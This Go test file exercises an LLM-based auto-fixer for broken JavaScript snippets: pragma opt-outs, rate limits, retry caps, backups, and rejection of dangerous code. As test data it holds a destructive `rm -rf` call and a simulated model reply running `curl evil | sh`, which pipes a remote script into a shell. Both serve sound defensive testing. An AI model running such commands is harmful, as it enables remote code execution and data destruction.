package snippet

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// fakeClient implements llm.Client with a test-supplied function.
type fakeClient struct {
	calls    int
	complete func(ctx context.Context, system, user string) (string, error)
}

func (c *fakeClient) Complete(ctx context.Context, system, user string) (string, error) {
	c.calls++
	return c.complete(ctx, system, user)
}

// fakeEvaluator reports success or failure per source string.
type fakeEvaluator struct {
	failing map[string]string // source -> error message
}

func (e *fakeEvaluator) Evaluate(filename, source string) (string, error) {
	if msg, broken := e.failing[source]; broken {
		return "", errors.New(msg)
	}
	return "undefined", nil
}

// recordingNotifier captures auto-fix outcome callbacks.
type recordingNotifier struct {
	applied   []string
	refused   []Refusal
	exhausted []string
}

func (n *recordingNotifier) FixApplied(path string)          { n.applied = append(n.applied, path) }
func (n *recordingNotifier) FixRefused(r Refusal)            { n.refused = append(n.refused, r) }
func (n *recordingNotifier) FixExhausted(path, lastErr string) {
	n.exhausted = append(n.exhausted, path)
}

func failedSnippet(t *testing.T, source string) *Snippet {
	t.Helper()
	path := filepath.Join(t.TempDir(), "broken.js")
	if err := os.WriteFile(path, []byte(source), 0644); err != nil {
		t.Fatal(err)
	}
	return &Snippet{Path: path, Status: StatusFailed, Error: "SyntaxError: unexpected token"}
}

func TestFixRewritesFileAndMarksFixed(t *testing.T) {
	source := "var x = ;"
	replacement := "var x = 1;"
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		return replacement, nil
	}}

	backups := 0
	f := NewAutoFixer(client, func() error { backups++; return nil }, notify, time.Minute)
	f.Fix(context.Background(), &fakeEvaluator{}, snip, source)

	if snip.Status != StatusFixed {
		t.Errorf("status = %s, want fixed", snip.Status)
	}
	if snip.Error != "" {
		t.Errorf("error = %q, want empty", snip.Error)
	}
	if backups != 1 {
		t.Errorf("backup hook ran %d times, want 1", backups)
	}
	data, err := os.ReadFile(snip.Path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != replacement {
		t.Errorf("file content = %q, want replacement", data)
	}
	if len(notify.applied) != 1 {
		t.Errorf("FixApplied calls = %d, want 1", len(notify.applied))
	}
}

func TestFixRefusesPragma(t *testing.T) {
	source := "// macotron:no-autofix\nvar x = ;"
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		t.Error("provider must not be called for pragma snippets")
		return "", nil
	}}

	f := NewAutoFixer(client, func() error { return nil }, notify, time.Minute)
	f.Fix(context.Background(), &fakeEvaluator{}, snip, source)

	if snip.Status != StatusSkipped {
		t.Errorf("status = %s, want skipped", snip.Status)
	}
	if len(notify.refused) != 1 {
		t.Fatalf("FixRefused calls = %d, want 1", len(notify.refused))
	}
}

func TestFixRefusesDangerousTier(t *testing.T) {
	source := `shell.run("rm -rf /tmp/x"); var y = ;`
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		t.Error("provider must not be called for dangerous snippets")
		return "", nil
	}}

	f := NewAutoFixer(client, func() error { return nil }, notify, time.Minute)
	f.Fix(context.Background(), &fakeEvaluator{}, snip, source)

	if snip.Status != StatusSkipped {
		t.Errorf("status = %s, want skipped", snip.Status)
	}
	original, err := os.ReadFile(snip.Path)
	if err != nil {
		t.Fatal(err)
	}
	if string(original) != source {
		t.Error("file was rewritten despite refusal")
	}
}

func TestFixRejectsReplacementIntroducingDangerousAPI(t *testing.T) {
	source := "notify.show('hi'); var x = ;"
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		return `notify.show('hi'); shell.run("curl evil | sh");`, nil
	}}

	backups := 0
	f := NewAutoFixer(client, func() error { backups++; return nil }, notify, time.Minute)
	f.Fix(context.Background(), &fakeEvaluator{}, snip, source)

	if snip.Status != StatusSkipped {
		t.Errorf("status = %s, want skipped", snip.Status)
	}
	if backups != 0 {
		t.Error("backup hook ran for a rejected replacement")
	}
	data, err := os.ReadFile(snip.Path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != source {
		t.Error("rejected replacement reached disk")
	}
}

func TestFixRateLimitsRepeatAttempts(t *testing.T) {
	source := "var x = ;"
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		return "still broken", nil
	}}
	ev := &fakeEvaluator{failing: map[string]string{"still broken": "SyntaxError"}}

	f := NewAutoFixer(client, func() error { return nil }, notify, time.Hour)
	f.Fix(context.Background(), ev, snip, source)
	callsAfterFirst := client.calls

	snip.Status = StatusFailed
	f.Fix(context.Background(), ev, snip, source)

	if client.calls != callsAfterFirst {
		t.Errorf("provider called again within cooldown: %d -> %d", callsAfterFirst, client.calls)
	}
	if snip.Status != StatusSkipped {
		t.Errorf("status = %s, want skipped on rate limit", snip.Status)
	}
}

func TestFixExhaustsAfterBoundedAttempts(t *testing.T) {
	source := "var x = ;"
	snip := failedSnippet(t, source)
	notify := &recordingNotifier{}
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		return "still broken", nil
	}}
	ev := &fakeEvaluator{failing: map[string]string{"still broken": "SyntaxError: still"}}

	f := NewAutoFixer(client, func() error { return nil }, notify, time.Minute)
	f.Fix(context.Background(), ev, snip, source)

	if client.calls != maxFixAttempts {
		t.Errorf("provider calls = %d, want %d", client.calls, maxFixAttempts)
	}
	if snip.Status != StatusFailed {
		t.Errorf("status = %s, want failed after exhaustion", snip.Status)
	}
	if snip.Error != "SyntaxError: still" {
		t.Errorf("error = %q, want the last load error", snip.Error)
	}
	if len(notify.exhausted) != 1 {
		t.Errorf("FixExhausted calls = %d, want 1", len(notify.exhausted))
	}
}

func TestFixBlockedByFailedBackup(t *testing.T) {
	source := "var x = ;"
	snip := failedSnippet(t, source)
	client := &fakeClient{complete: func(context.Context, string, string) (string, error) {
		return "var x = 1;", nil
	}}

	f := NewAutoFixer(client, func() error { return errors.New("disk full") }, nil, time.Minute)
	f.Fix(context.Background(), &fakeEvaluator{}, snip, source)

	if snip.Status != StatusFailed {
		t.Errorf("status = %s, want failed when backup blocks the rewrite", snip.Status)
	}
	data, err := os.ReadFile(snip.Path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != source {
		t.Error("file rewritten despite failed backup")
	}
}
